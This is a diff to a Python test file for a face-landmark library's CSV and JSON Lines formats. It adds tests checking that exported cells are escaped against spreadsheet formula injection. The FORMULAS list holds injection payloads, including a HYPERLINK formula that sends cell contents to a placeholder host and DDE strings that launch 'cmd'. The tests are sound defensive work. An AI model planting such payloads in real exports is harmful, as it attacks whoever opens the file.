@@ -1,5 +1,6 @@
 """CSV and JSON Lines."""
 
+import csv as python_csv
 import json
 
 import numpy as np
@@ -10,7 +11,7 @@ from hypothesis import strategies as st
 from meanshape import formats
 from meanshape.core.errors import FormatError
 from meanshape.core.types import Box, Emotion, Face, Pose, Prediction, Shape
-from meanshape.formats import csv, jsonl, text
+from meanshape.formats import cells, csv, jsonl, text
 
 FIVE = [[10, 20], [30, 20.25], [20, 30], [12, 40], [28, 41.123456]]
 FULL = Prediction(
@@ -75,7 +76,7 @@ def test_a_wrong_line_of_jsonl_is_named(tmp_path, line, says):
 def test_csv_holds_points_and_the_likeliest_labels(tmp_path):
     path = tmp_path / "punkte.csv"
     formats.write(path, [FULL, NOBODY])
-    more = ("pitch", "yaw", "roll", "emotion", "attribute_glasses")
+    more = ("score", "track", "pitch", "yaw", "roll", "emotion", "attribute_glasses")
     assert path.read_text("utf-8").splitlines()[0] == ",".join((*csv.COLUMNS, *more))
     (read,) = formats.read(path)
     assert read.source == FULL.source
@@ -83,7 +84,8 @@ def test_csv_holds_points_and_the_likeliest_labels(tmp_path):
     assert read.faces[0].pose == Pose(1, -2, 3.5)
     assert read.faces[0].emotion == Emotion("happy")
     assert read.faces[0].attributes == {"glasses": "no glasses"}
-    assert read.faces[0].box == Box.around(FIVE[:4])
+    assert read.faces[0].box == FULL.faces[0].box
+    assert (read.faces[0].score, read.faces[0].track) == (FULL.faces[0].score, 7)
 
 
 def test_csv_of_points_alone_has_no_further_columns(tmp_path):
@@ -188,3 +190,57 @@ def test_written_and_read_back_to_a_millionth(tmp_path_factory, suffix, photos):
         for face, shape in zip(prediction.faces, shapes[prediction.source], strict=True):
             assert np.array_equal(np.isnan(face.shape.points), np.isnan(shape.points))
             assert np.nanmax(np.abs(face.shape.points - shape.points)) <= 1e-6
+
+
+FORMULAS = (
+    '=HYPERLINK("http://x/"&A1;"win")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "＝1+1",
+    "  =1",
+    "a;=cmd|' /C calc'!A0;b",
+    "a\t=1",
+    "'=1",
+    "''@x",
+)
+
+
+def test_no_cell_is_a_formula_to_a_spreadsheet(tmp_path):
+    """Not in a country where cells end at a semicolon either; and what is read back is what was written."""
+    path = tmp_path / "a.csv"
+    photos = [
+        Prediction(
+            (Face(Box(0, 0, 9, 9), Shape([*FIVE[:4], [-1.5, -2]], "mtfl5"), attributes={"hat": name}),),
+            (0, 0),
+            f"{name}.jpg",
+        )
+        for name in map(str.strip, FORMULAS)
+    ]
+    csv.write(path, photos)
+    assert [one.source for one in csv.read(path)] == [photo.source for photo in photos]
+    assert [dict(one.faces[0].attributes) for one in csv.read(path)] == [
+        dict(photo.faces[0].attributes) for photo in photos
+    ]
+    assert "-1.500000,-2.000000" in path.read_text("utf-8")  # a number stays a number
+    for delimiter in ",;\t":
+        with path.open(newline="", encoding="utf-8") as file:
+            rows = list(python_csv.reader(file, delimiter=delimiter))
+        begins = {cell.strip()[0] for row in rows for cell in row if cell.strip()}
+        texts = {
+            cell
+            for row in rows
+            for cell in row
+            if cell.lstrip()[:1] in tuple("=+-@＝") and cell.strip("-.0123456789")
+        }
+        assert begins and not texts, texts
+
+
+@given(st.one_of(st.text(), st.sampled_from(FORMULAS), st.text("'=+-@\t 1a;", max_size=6)))
+def test_a_guarded_text_comes_back(name):
+    assert cells.plain(cells.guarded(name)) == name
+
+
+def test_numbers_and_plain_names_are_not_changed():
+    for text_ in ("-1.5", "+2", "-1e-05", "a=b.jpg", "é/ü.jpg", "", "'quoted'", "x-y"):
+        assert cells.render_row([text_, None]) == f"{text_},\n"
